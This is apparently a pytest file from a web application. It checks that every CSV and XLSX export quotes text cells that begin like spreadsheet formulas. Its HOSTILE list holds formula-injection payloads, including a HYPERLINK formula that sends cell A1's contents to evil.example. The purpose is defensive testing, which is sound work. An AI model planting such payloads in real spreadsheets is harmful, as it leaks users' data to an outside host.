"""Every CSV and XLSX file the site serves quotes a text cell that begins like a spreadsheet formula.

Each export endpoint gets hostile values in through the way real data reaches it (a table's
dimension values and names, an item title, an operator's name, a consumer's name, a bank
reference) and must serve each of them with a single quote in front, while numbers,
negative ones included, stay numbers.  A further test lists the export routes of the URL
map, so a new export cannot be added without a case here.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import sqlalchemy as sa

from consultation.models import Ticket
from core.extensions import db
from core.spreadsheets import FORMULA_STARTS
from tests.catalog.conftest import ItemMaker
from tests.consultation.helpers import open_request
from tests.orders.conftest import SECRET, Shop, callback_body, post_callback
from tests.support import orders_catalog

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def app_config(app_config):
    return dict(app_config, STATDESK_BANK_CALLBACK_SECRET=SECRET)


def _table(app, users, client, login) -> tuple[list[str], dict]:
    from catalog.tables import store
    from catalog.tables.cube import Cell, Dimension, Structure, Value
    from catalog.tables.models import CubeVersion

    item_id = ItemMaker(app).make(kind="table", title=HOSTILE[0])
    values = [Value(f"v{i}", {"id": text, "en": text}) for i, text in enumerate(HOSTILE)] + [Value("5201", {
        "id": "Lombok Barat"})]
    structure = Structure([Dimension("@wilayah", {"id": HOSTILE[1], "en": HOSTILE[1]}, "other", values),
                           Dimension("tahun", {"id": "Tahun"}, "time", [Value("2023", {"id": "2023"}),
                                                                        Value("=2024", {"id": "=2024"})])],
                          {"id": HOSTILE[2]}, 2, {"id": HOSTILE[3]}, notes=[{"id": HOSTILE[4]}, {"id": HOSTILE[5]}])
    cells = {(v.code, y): Cell(-3.5 if v.code == "5201" else 1.25, "", 1 + (n % 2))
             for n, v in enumerate(values) for y in ("2023", "=2024")}
    with app.app_context():
        version = CubeVersion(item_id=item_id, number=1, structure=structure.to_json(), cell_count=len(cells))
        db.session.add(version)
        store.write_cells(version, structure, cells)
        db.session.commit()
    return [f"/catalog/{item_id}/table.csv", f"/catalog/{item_id}/table.xlsx",
            f"/api/v1/tables/{item_id}/data?format=csv", f"/api/v1/tables/{item_id}/data?format=xlsx"], \
        {"negative": -3.5}


def _helpdesk(app, users, client, login) -> tuple[list[str], dict]:
    consumer = users.make()
    for name in HOSTILE:
        number = open_request(app, consumer)
        operator = users.make("operator", full_name=name)
        with app.app_context():
            ticket = db.session.scalar(sa.select(Ticket).where(Ticket.number == number))
            ticket.assignee_id = users.get(operator).id
            db.session.commit()
    login(users.make("supervisor"))
    return ["/helpdesk/reports/times.csv"], {}


def _finance(app, users, client, login) -> tuple[list[str], dict]:
    orders_catalog.install(app)
    shop = Shop(app, users)
    for number, name in enumerate(HOSTILE):
        [order_id] = shop.order(shop.consumer(full_name=name), (orders_catalog.PUBLICATION_PAID, 1, {}))
        invoice = shop.invoice(order_id)
        reference = f"{name} {number}"  # the callback strips the tab and CR: the number keeps references apart
        assert post_callback(client, callback_body(invoice.billing_code, invoice.amount, reference)).status_code == 200
    login(users.make("finance"))
    return [f"/finance/{name}.{fmt}" for name in ("invoices", "payments") for fmt in ("csv", "xlsx")], {}


PLANTERS = {"catalog_table": _table, "helpdesk_times": _helpdesk, "finance_lists": _finance}
# Reports whose cells are all codes, numbers and dates: no text from people reaches them.
WITHOUT_FREE_TEXT = ("/helpdesk/reports/sla.csv", "/helpdesk/reports/backlog.csv", "/helpdesk/reports/ikm.csv")


def cells_of(response) -> list:
    if response.mimetype == "text/csv":
        text = response.get_data(as_text=True)
        assert text.startswith("\ufeff")
        return [cell for row in csv.reader(io.StringIO(text[1:], newline="")) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    sheets = book.worksheets
    # A carriage return is stored as OOXML's escape ``_x000D_``, which openpyxl reads back as it is.
    return [cell.replace("_x000D_", "\r") if isinstance(cell, str) else cell
            for sheet in sheets for row in sheet.iter_rows(values_only=True) for cell in row if cell is not None]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def live_formulas(cells) -> list:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not _is_number(c)]


@pytest.mark.parametrize("planter", PLANTERS.values(), ids=PLANTERS.keys())
def test_every_hostile_value_comes_out_quoted(app, users, client, login, planter):
    urls, expected = planter(app, users, client, login)
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        cells = cells_of(response)
        assert live_formulas(cells) == [], url
        quoted = {c[1:] for c in cells if isinstance(c, str) and c.startswith("'")}
        assert set(HOSTILE) <= quoted, (url, set(HOSTILE) - quoted)
        if "negative" in expected:
            wanted = expected["negative"] if url.endswith((".xlsx", "=xlsx")) else str(expected["negative"])
            assert wanted in cells, url  # a number, not quoted text


def test_reports_without_free_text_hold_no_live_formula(app, users, client, login):
    _helpdesk(app, users, client, login)
    for url in WITHOUT_FREE_TEXT:
        response = client.get(url)
        assert response.status_code == 200 and live_formulas(cells_of(response)) == [], url


def test_every_export_route_is_covered_here(app):
    exported = {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith((".csv", ".xlsx", ".<fmt>"))
                or rule.endpoint == "catalog_tables_api.data"}
    covered = {"/catalog/<int:item_id>/table.<fmt>", "/api/v1/tables/<int:item_id>/data",
               "/helpdesk/reports/<name>.csv", "/finance/invoices.csv", "/finance/invoices.xlsx",
               "/finance/payments.csv", "/finance/payments.xlsx"}
    assert exported == covered


def test_only_core_spreadsheets_writes_csv_or_xlsx():
    from pathlib import Path

    from app import PACKAGES

    root = Path(__file__).resolve().parents[2]
    writers = ("csv.writer", "csv.DictWriter", "xlsxwriter", "openpyxl")
    found = [str(path.relative_to(root)) for package in PACKAGES for path in (root / package).rglob("*.py")
             if any(name in path.read_text(encoding="utf-8") for name in writers)]
    assert found == ["core/spreadsheets.py"]
